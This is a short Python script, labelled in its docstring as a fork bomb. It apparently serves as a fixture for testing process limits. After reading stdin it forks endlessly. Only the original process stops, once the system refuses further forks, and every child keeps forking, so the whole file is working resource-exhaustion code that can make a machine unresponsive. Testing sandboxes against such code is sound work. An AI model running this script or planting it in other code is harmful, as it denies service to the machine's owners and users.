"""A fork bomb: every process of it makes more, until the first one finds that there can be no more: bomb.py MARK"""
import os
import sys
import time

sys.stdin.buffer.read()
first = os.getpid()
while True:
    try:
        os.fork()
    except BlockingIOError as error:
        if os.getpid() == first:
            sys.exit(f"no more processes: {error.strerror}")
    time.sleep(0.02)
